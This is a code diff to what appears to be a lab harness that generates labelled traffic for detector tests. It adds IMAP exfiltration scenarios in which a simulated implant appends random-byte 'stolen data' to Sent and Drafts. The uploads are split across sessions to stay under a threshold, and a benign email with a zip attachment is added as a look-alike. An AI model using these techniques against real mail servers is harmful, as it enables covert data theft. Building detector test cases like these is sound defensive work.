@@ -11,6 +11,7 @@ import email.policy
 import email.utils
 import hashlib
 import imaplib
+import io
 import json
 import os
 import pathlib
@@ -23,6 +24,7 @@ import ssl
 import subprocess
 import sys
 import time
+import zipfile
 
 SERVER = "10.99.0.2"
 C2_SERVER = "10.99.0.3"  # fake_servers.py: the attacker's own relay
@@ -436,6 +438,66 @@ class Run:
         c.append("Drafts", r"(\Draft)", None, raw)
         c.logout()
 
+    def opaque_uploads(self):
+        """Exfiltration by IMAP APPEND of a few hundred KB of stolen data, encrypted (random bytes)
+        and base64-encoded, with no human text: one raw-socket implant session with LITERAL+
+        (non-synchronising) literals to Sent, and imaplib sessions of ~80 KB each (60 KB base64-encoded) to Drafts (each
+        under the session threshold). The look-alike: a person's client saving the sent copy of
+        a mail with a 300 KB zip and a real text part."""
+        rng = random.Random(17)
+        one = self.scenario("c2_imap_literal_plus_exfil", "c2", "imap", 143, user="drop@partner.example",
+                            detectors=[9200001])
+        blobs = [base64.encodebytes(bytes(rng.randrange(256) for _ in range(45000))) for _ in range(3)]
+        sock = socket.create_connection((SERVER, 143), 20, source_address=(one["src_ip"], 0))
+        f = sock.makefile("rb")
+
+        def until(tag):
+            while True:
+                line = f.readline()
+                if not line or line.startswith(tag + b" "):
+                    assert line and b" OK" in line, line
+                    return
+
+        f.readline()  # greeting
+        sock.sendall(b'a1 LOGIN "drop@partner.example" "' + PASSWORDS["drop@partner.example"].encode() + b'"\r\n')
+        until(b"a1")
+        for i, blob in enumerate(blobs):
+            msg = (b"From: drop@partner.example\r\nSubject: sync " + str(i).encode() + b"\r\n\r\n" +
+                   blob.replace(b"\n", b"\r\n"))
+            tag = b"a%d" % (i + 2)
+            sock.sendall(tag + b" APPEND Sent (\\Seen) {%d+}\r\n" % len(msg) + msg + b"\r\n")
+            until(tag)
+        sock.sendall(b"a9 LOGOUT\r\n")
+        until(b"a9")
+        sock.close()
+
+        several = self.scenario("c2_imap_drafts_exfil_sessions", "c2", "imap", 143, user="drop@partner.example",
+                                sessions=4, detectors=[9200001])
+        for i in range(4):
+            loot = bytes(rng.randrange(256) for _ in range(60000))
+            m = message("drop@partner.example", ["drop@partner.example"], f"part {i}", "")
+            m.clear_content()
+            m.set_content(loot, maintype="application", subtype="octet-stream", filename=f"p{i}.dat")
+            c = BoundIMAP(several["src_ip"], SERVER)
+            c.login("drop@partner.example", PASSWORDS["drop@partner.example"])
+            c.append("Drafts", r"(\Draft)", None, m.as_bytes())
+            c.logout()
+            time.sleep(0.3)
+
+        person = self.scenario("imap_sent_copy_with_zip", "benign", "imap", 143, user="alice@corp.example")
+        buf = io.BytesIO()
+        with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:  # photos do not compress
+            for n in range(3):
+                z.writestr(f"site-{n}.jpg", b"\xff\xd8\xff\xe0" + bytes(rng.randrange(256) for _ in range(100000)))
+        zipped = buf.getvalue()
+        m = message("alice@corp.example", ["bob@corp.example"], "Site photos",
+                    "Hi Bob,\n\nhere are the photos from the site visit, zipped. Tell me if any are missing.\n\nAlice\n",
+                    attachments=[("photos.zip", zipped, "application/zip")])
+        c = BoundIMAP(person["src_ip"], SERVER)
+        c.login("alice@corp.example", PASSWORDS["alice@corp.example"])
+        c.append("Sent", r"(\Seen)", None, m.as_bytes())
+        c.logout()
+
     def odd_port(self):
         helo = "WIN-3K7Q9ZT1ABC"
         s = self.scenario("c2_smtp_odd_port", "c2", "smtp", 2626, helo=helo, mail_from="<drop@partner.example>",
@@ -462,7 +524,7 @@ class Run:
                      lambda: wait_mail(self.state_dir, "bob@corp.example", 4),
                      self.imap_read, self.imap_two_devices, self.pop3_read, self.curl_imap_pop3, self.imap_pop3_starttls,
                      self.pop3_polling, self.imap_dead_drop, self.attachment_paths, self.long_line_upload,
-                     self.tls_pollers):
+                     self.opaque_uploads, self.tls_pollers):
             self.attempt(step)
 
 if __name__ == "__main__":
